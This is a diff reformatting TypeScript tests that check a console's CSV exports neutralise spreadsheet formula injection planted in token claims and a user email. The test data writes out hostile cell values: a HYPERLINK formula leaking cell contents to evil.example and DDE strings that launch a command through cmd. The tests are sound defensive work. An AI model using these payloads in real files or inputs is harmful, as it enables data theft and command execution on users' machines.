@@ -15,7 +15,14 @@ import { csvRecords, readCsvWithPython } from '../helpers/python-csv.js';
 import { finishedJob } from '../helpers/bulk.js';
 
 // What a hostile (or compromised) upstream puts in the claims, one per row.
-const PLANTED_SUBS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const PLANTED_SUBS = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 const PLANTED_EMAIL = '=HYPERLINK("https://evil.example","x")@evil.example';
 
 let app: TestConsole;
@@ -35,7 +42,13 @@ before(async () => {
       const params = JSON.parse(body || '{}') as { email?: string };
       const n = minted++;
       const now = Math.floor(Date.now() / 1000);
-      const claims = { sub: PLANTED_SUBS[n % PLANTED_SUBS.length], jti: `@jti-${n}`, iat: now, exp: now + 3600, ...(params.email ? { email: params.email } : {}) };
+      const claims = {
+        sub: PLANTED_SUBS[n % PLANTED_SUBS.length],
+        jti: `@jti-${n}`,
+        iat: now,
+        exp: now + 3600,
+        ...(params.email ? { email: params.email } : {}),
+      };
       res.writeHead(200, { 'content-type': 'application/json', date: new Date().toUTCString() });
       res.end(JSON.stringify(`${b64({ alg: 'ES256', typ: 'JWT' })}.${b64(claims)}.c2lnbmF0dXJl`));
     });
@@ -57,9 +70,20 @@ const finished = (jobId: string, who: Record<string, string> = {}) => finishedJo
 
 test('a planted formula in a bulk row (sub, email, jti) and in an audit row (actor) comes out neutralised in both CSVs', async () => {
   const upstreamUrl = (app as TestConsole & { upstreamUrl: string }).upstreamUrl;
-  const cred = await http<{ id: string }>('POST', `${app.url}/api/credential-sets`, { name: 'Hostile upstream', clientId: `${randomUUID()}.img.frame.nutanix.com`, clientSecret: 'a-secret-for-the-fake-upstream', upstreamUrl });
+  const cred = await http<{ id: string }>('POST', `${app.url}/api/credential-sets`, {
+    name: 'Hostile upstream',
+    clientId: `${randomUUID()}.img.frame.nutanix.com`,
+    clientSecret: 'a-secret-for-the-fake-upstream',
+    upstreamUrl,
+  });
   assert.equal(cred.status, 201, cred.text);
-  const prov = await http<{ id: string }>('POST', `${app.url}/api/providers`, { name: providerName(), tokenDurationMin: 60, entityLevel: 'account', entityId: randomUUID(), credentialSetId: cred.json.id });
+  const prov = await http<{ id: string }>('POST', `${app.url}/api/providers`, {
+    name: providerName(),
+    tokenDurationMin: 60,
+    entityLevel: 'account',
+    entityId: randomUUID(),
+    credentialSetId: cred.json.id,
+  });
   assert.equal(prov.status, 201, prov.text);
 
   // A user whose email (set by whoever invited them) is a formula: it is the actor of their audit rows.
@@ -70,7 +94,12 @@ test('a planted formula in a bulk row (sub, email, jti) and in an audit row (act
   const user = { email: PLANTED_EMAIL.toLowerCase(), password };
   const s = await signIn(app.url, user.email, user.password);
 
-  const start = await http<any>('POST', `${app.url}/api/providers/${prov.json.id}/bulk`, { count: PLANTED_SUBS.length, concurrency: 1, template: { email: PLANTED_EMAIL } }, as(s));
+  const start = await http<any>(
+    'POST',
+    `${app.url}/api/providers/${prov.json.id}/bulk`,
+    { count: PLANTED_SUBS.length, concurrency: 1, template: { email: PLANTED_EMAIL } },
+    as(s),
+  );
   assert.equal(start.status, 202, start.text);
   const job = await finished(start.json.id, as(s));
   assert.deepEqual([job.state, job.ok], ['done', PLANTED_SUBS.length], JSON.stringify(job.failures));
@@ -89,14 +118,16 @@ test('a planted formula in a bulk row (sub, email, jti) and in an audit row (act
     assert.equal(row.exp, String(original.exp));
   }
   assert.deepEqual(new Set(rows.map((r) => r.sub)), new Set(PLANTED_SUBS.map((v) => `'${v}`)));
-  for (const cell of readCsvWithPython(csv.text).flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`);
+  for (const cell of readCsvWithPython(csv.text).flat())
+    assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`);
 
   const audit = await http('GET', `${app.url}/api/audit.csv?actor=${encodeURIComponent(user.email)}`);
   assert.equal(audit.status, 200);
   const auditRows = csvRecords(audit.text);
   assert.ok(auditRows.length >= PLANTED_SUBS.length + 1, `${auditRows.length} rows of the planted user`);
   for (const row of auditRows) assert.equal(row.actor, `'${user.email}`);
-  for (const cell of readCsvWithPython(audit.text).flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no audit cell starts a formula: ${JSON.stringify(cell)}`);
+  for (const cell of readCsvWithPython(audit.text).flat())
+    assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no audit cell starts a formula: ${JSON.stringify(cell)}`);
 });
 
 test('ordinary values round-trip unchanged through both CSVs', async () => {
@@ -113,7 +144,18 @@ test('ordinary values round-trip unchanged through both CSVs', async () => {
   assert.equal(rows.length, 5);
   for (const back of rows) {
     const r = json.find((x) => String(x.row) === back.row)!;
-    assert.deepEqual(back, { row: String(r.row), ok: 'true', token: r.token, launch_link: r.launchLink, exp: String(r.exp), sub: r.sub, email: r.email, jti: r.jti, error: '', message: '' });
+    assert.deepEqual(back, {
+      row: String(r.row),
+      ok: 'true',
+      token: r.token,
+      launch_link: r.launchLink,
+      exp: String(r.exp),
+      sub: r.sub,
+      email: r.email,
+      jti: r.jti,
+      error: '',
+      message: '',
+    });
   }
 
   const api = (await http<any[]>('GET', `${app.url}/api/audit?limit=500`)).json.reverse();
@@ -122,7 +164,8 @@ test('ordinary values round-trip unchanged through both CSVs', async () => {
   const cell = (v: unknown) => (v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v));
   for (const [i, row] of api.entries()) {
     const back = csv[i]!;
-    for (const key of ['seq', 'at', 'action', 'target', 'providerId', 'outcome', 'requestId', 'ip', 'chainIndex', 'hash']) assert.equal(back[key], cell(row[key]), `${key} of row ${row.seq}`);
+    for (const key of ['seq', 'at', 'action', 'target', 'providerId', 'outcome', 'requestId', 'ip', 'chainIndex', 'hash'])
+      assert.equal(back[key], cell(row[key]), `${key} of row ${row.seq}`);
     assert.deepEqual(JSON.parse(back.detail!), row.detail, `detail of row ${row.seq}`);
     assert.equal(back.actor, /^[=+\-@\t\r]/.test(row.actor) ? `'${row.actor}` : row.actor, `actor of row ${row.seq}`);
   }
